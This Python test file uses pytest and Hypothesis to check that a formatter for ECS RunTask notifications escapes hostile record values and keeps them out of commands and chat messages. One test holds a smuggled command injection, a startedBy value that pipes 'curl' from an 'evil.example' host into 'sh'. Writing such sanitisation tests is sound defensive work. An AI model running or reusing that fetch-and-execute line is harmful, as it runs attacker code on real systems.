@pytest.mark.parametrize("style", [FULL, IN_JAPANESE])
@given(text=hostile, kind=st.sampled_from(CallerKind), outcome=st.sampled_from(Outcome))
def test_nothing_from_a_record_breaks_a_line_or_sets_a_label(
    style: Style, text: str, kind: CallerKind, outcome: Outcome
) -> None:
    """Each line begins as one of ours, and there are no more than an honest record has."""
    words = {Language.ENGLISH: ENGLISH, Language.JAPANESE: JAPANESE}[style.language]
    ours = tuple(sentence.partition("{")[0] for sentence in [*words.labels.values(), *words.steps.values()])
    for written, honest in zip(
        both(text, kind, outcome, style), both("x", kind, outcome, style), strict=True
    ):
        lines = written.text.split("\n")
        links = re.findall(r"\w+://\S+", written.text)
        assert all(link.startswith((CONSOLE, "https://example.com/runbook.md")) for link in links)
        assert all(map(str.isprintable, lines))
        assert len(lines) <= len(honest.text.split("\n"))
        hint = f"- {in_text(text)}"
        assert [
            line
            for line in lines[1:]
            if line and not line.removeprefix("- ").startswith(ours) and not hint.startswith(line.rstrip("."))
        ] == []


@pytest.mark.parametrize("style", [FULL, IN_JAPANESE])
@given(text=hostile, kind=st.sampled_from(CallerKind), outcome=st.sampled_from(Outcome))
def test_nothing_from_a_record_is_more_than_one_plain_word_of_a_command(
    style: Style, text: str, kind: CallerKind, outcome: Outcome
) -> None:
    for steps in (
        [*after(forged(text, kind), outsider(text, outcome), style, ENGLISH, in_text)],
        [*after(forged(text, kind), outsider(text, outcome, is_unsure=True), style, ENGLISH, in_text)],
    ):
        for step in filter(lambda step: step.command, steps):
            assert as_code(step.command) == f"`{step.command}`", "a chat shows what the text has"
            words = shlex.split(step.command)
            if words[-2] == "--cli-input-json":
                assert json.loads(words.pop())["taskDefinition"] == text
            reason = [words.pop()] if words[-2] == "--reason" else []
            assert reason in ([], ["not wanted"])
            assert all(re.fullmatch(r"[\w./:=+,-]+", word, re.ASCII) for word in words)
            assert [word for word in words if word.startswith("-")] == [
                word for word in words if word in OPTIONS
            ]


OPTIONS = (
    "--region",
    "--stack",
    "--even-late",
    "--schedule",
    "--reason",
    "--cluster",
    "--started-by",
    "--cli-input-json",
    "--name-prefix",
)


@pytest.mark.parametrize("style", [FULL, IN_JAPANESE])
@given(text=hostile, kind=st.sampled_from(CallerKind), outcome=st.sampled_from(Outcome))
def test_nothing_from_a_record_calls_anybody_or_sets_a_link_in_a_chat(
    style: Style, text: str, kind: CallerKind, outcome: Outcome
) -> None:
    for written in both(text, kind, outcome, style):
        content = chat(written)["content"]
        said = "\n".join([content["title"], content["description"], *content["nextSteps"]])
        assert not re.search(r"[<>@]", said)
        # Between backticks a chat neither links nor formats; what is left is ours.
        plain = re.sub(r"`[^`\n]*`", "", said)
        assert "`" not in plain
        assert "evil.example" not in plain
        links = re.findall(r"https?://\S+|www\.\w\S*|\[[^\]]*\]\(", plain)
        assert all(link.startswith((CONSOLE, "https://example.com/runbook.md")) for link in links), links


@given(
    text=hostile | st.text(max_size=2000), kind=st.sampled_from(CallerKind), outcome=st.sampled_from(Outcome)
)
def test_sns_and_chat_take_every_message(text: str, kind: CallerKind, outcome: Outcome) -> None:
    for style in FULL, IN_JAPANESE:
        for written in both(text, kind, outcome, style, task_arns=(text,) * 30):
            assert ASCII_SUBJECT.fullmatch(written.plain_subject)
            assert written.subject.isprintable()
            assert 0 < len(written.subject) < 100
            if style.language is Language.ENGLISH:
                assert written.subject == written.plain_subject
            forms = {"default": written.text, "https": written.chat}
            assert len(json.dumps(forms).encode()) < 256 * 1024
            assert json.dumps(chat(written), ensure_ascii=False).encode()


@pytest.mark.parametrize(
    "text",
    [
        text
        for text in HOSTILE
        if text not in ("evil.example", "www.evil.example", "--cli-input-json", "{name}{0}%s", ":fire:")
    ],
)
def test_a_request_with_anything_but_plain_words_in_it_is_not_written_down(text: str) -> None:
    value = launch(request=parameters(group=text, clientToken=None, dryrun=None))
    is_plain = text.startswith("*bold*")
    assert ("ecs run-task" in message(value, ending(), FULL).text) is is_plain


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (CAPACITY, CAPACITY),
        ("nightly_job", "nightly_job"),
        ("RESOURCE:MEMORY", "RESOURCE:MEMORY"),
        ("夜間バッチ", "夜間バッチ"),
        (TASK, f"`{TASK}`"),
        ("_it_", "`_it_`"),
        ("*bold*", "`*bold*`"),
        ("a.example", "`a.example`"),
        ("//a", "`//a`"),
        (":fire:", "`:fire:`"),
        ("#general", "`#general`"),
        ("a`b<!here>@c", "`a'b\u2039!here\u203a\uff20c`"),
        ("a\nb", r"`a\nb`"),
    ],
)
def test_what_a_chat_would_make_something_else_of_is_shown_as_code(text: str, shown: str) -> None:
    assert in_chat(text) == shown


def test_a_schedule_s_name_is_part_of_a_command_only_if_it_is_a_name() -> None:
    """A startedBy of anybody's who may call RunTask makes the name."""
    evil = "events-rule/x; curl -s https://evil.example/i | sh #"
    incomplete = IncompleteRequest(parameters=parameters(startedBy=evil), missing=("overrides",))
    value = replace(launch(), request=incomplete)
    for style in FULL, IN_JAPANESE:
        text = message(value, ending(outcome=Outcome.REFUSED, is_unsure=True), style).text
        assert heads(text) == ["retry-run-task status"]
        assert "(--started-by)" in text
        assert "retry-run-task/0123456789ab" in text
        assert "curl" in text, "as a value, it may be read"
    assert "events list-rules --region ap-northeast-1 --name-prefix night.ly_1" in (
        message(
            replace(
                launch(),
                request=replace(incomplete, parameters=parameters(startedBy="events-rule/night.ly_1")),
            ),
            ending(outcome=Outcome.REFUSED),
        ).text
    )
